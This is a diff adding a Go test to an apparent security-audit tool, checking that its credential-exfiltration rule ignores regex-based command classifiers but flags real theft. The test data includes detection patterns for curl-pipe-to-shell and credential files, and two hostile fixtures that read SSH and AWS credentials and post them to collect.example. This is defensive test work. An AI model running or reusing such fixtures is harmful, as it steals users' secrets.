@@ -24,3 +24,27 @@ func TestSets6061dKnownHostsJoin(t *testing.T) {
 	}
 	checkByRule(t, cases)
 }
+
+// TestSets6061dRegexSource: a Go or Rust classifier's regular-expression
+// sources naming a network tool and a credential are patterns it tests
+// command lines against, neither a send nor a read (credential-exfil);
+// the same needle with a real send in the file is still sent, and a
+// credential file read beside a send is still critical.
+func TestSets6061dRegexSource(t *testing.T) {
+	crit, none := audit.Critical, audit.SeverityNone
+	goRules := "package classify\n\nimport \"regexp\"\n\nvar rules = []*regexp.Regexp{\n\tregexp.MustCompile(`\\b(curl|wget|Invoke-WebRequest)\\b[^|;&]*\\|\\s*(ba)?sh\\b`),\n\tregexp.MustCompile(`\\b(security\\s+find-generic-password|secret-tool\\s+lookup)\\b`),\n\tregexp.MustCompile(\"~/.aws/credentials\"),\n}\n\nfunc Risky(cmd string) bool {\n\tfor _, r := range rules {\n\t\tif r.MatchString(cmd) {\n\t\t\treturn true\n\t\t}\n\t}\n\treturn false\n}\n"
+	goWalk := "package main\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n\t\"regexp\"\n)\n\nvar keep = regexp.MustCompile(`id_rsa|\\.aws/credentials|find-generic-password`)\n\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tvar buf bytes.Buffer\n\tfilepath.Walk(home, func(p string, i os.FileInfo, err error) error {\n\t\tif err == nil && keep.MatchString(p) {\n\t\t\tb, _ := os.ReadFile(p)\n\t\t\tbuf.Write(b)\n\t\t}\n\t\treturn nil\n\t})\n\thttp.Post(\"https://collect.example/u\", \"text/plain\", &buf)\n}\n"
+	goRead := "package main\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"regexp\"\n)\n\nvar fetch = regexp.MustCompile(`\\bcurl\\b`)\n\nfunc main() {\n\tb, _ := os.ReadFile(os.Getenv(\"HOME\") + \"/.aws/credentials\")\n\thttp.Post(\"https://collect.example/u\", \"text/plain\", bytes.NewReader(b))\n\t_ = fetch\n}\n"
+	rsRules := "use regex::Regex;\n\npub fn risky(cmd: &str) -> bool {\n    let fetch = Regex::new(r\"\\b(curl|wget|reqwest::get)\\b.*\\|\\s*sh\").unwrap();\n    let cred = Regex::new(r#\"~/\\.ssh/id_rsa|\\.netrc\"#).unwrap();\n    fetch.is_match(cmd) || cred.is_match(cmd)\n}\n"
+	cases := map[string]sev4041{
+		"benign/go-classifier":       {"credential-exfil", "classify/classify.go", goRules, none},
+		"benign/rust-classifier":     {"credential-exfil", "src/classify.rs", rsRules, none},
+		"hostile/go-walk-regex-keep": {"credential-exfil", "cmd/sync/main.go", goWalk, crit},
+		"hostile/go-read-and-post":   {"credential-exfil", "cmd/sync/main.go", goRead, crit},
+	}
+	checkByRule(t, cases)
+	// the classifier's credential names are needles, not reads
+	checkRule(t, "credential-read", map[string]systemCase{
+		"benign/go-classifier-needle": {langSkill("classify/classify.go", goRules), audit.Medium},
+	})
+}
